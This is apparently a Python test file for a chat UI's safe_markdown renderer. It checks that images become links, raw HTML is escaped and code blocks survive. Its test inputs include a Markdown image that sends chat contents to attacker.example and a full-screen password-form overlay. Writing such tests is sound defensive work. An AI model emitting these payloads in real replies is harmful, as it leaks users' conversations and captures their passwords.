"""safe_markdown: messages and replies cannot load remote resources or inject HTML; code and Markdown survive."""

from __future__ import annotations

from ui.render import safe_markdown


def test_markdown_images_become_links_so_nothing_is_fetched():
    leak = "![s](http://attacker.example/p.png?secret=chat-contents)"
    assert safe_markdown(leak) == "[image: s](http://attacker.example/p.png?secret=chat-contents)"
    ref = "![logo][1]\n\n[1]: http://attacker.example/x.png"
    assert safe_markdown(ref).startswith("[image: logo][1]")


def test_raw_html_is_text():
    overlay = (
        '<div style="position:fixed;inset:0;z-index:99999"><form action=http://x><input type=password></form></div>'
    )
    out = safe_markdown(overlay)
    assert "<" not in out and out.startswith("&lt;div style=")
    assert safe_markdown("<img src=http://attacker.example/a.png>") == "&lt;img src=http://attacker.example/a.png>"
    assert safe_markdown("AT&T &lt;b&gt;") == "AT&amp;T &amp;lt;b&amp;gt;"  # shown exactly as typed


def test_code_is_left_as_written():
    fenced = "Here:\n```html\n<div style='x'>![a](http://e/x.png)</div>\n```\nand `a < b` inline, <b>not this</b>"
    out = safe_markdown(fenced)
    assert "```html\n<div style='x'>![a](http://e/x.png)</div>\n```" in out
    assert "`a < b`" in out and out.endswith("&lt;b>not this&lt;/b>")


def test_an_unclosed_fence_keeps_the_rest_as_code():
    assert safe_markdown("```\n<b>still code") == "```\n<b>still code"


def test_plain_markdown_is_unchanged():
    text = "# Title\n\n> a quote\n\n- **bold** and [a link](https://example.org)\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert safe_markdown(text) == text
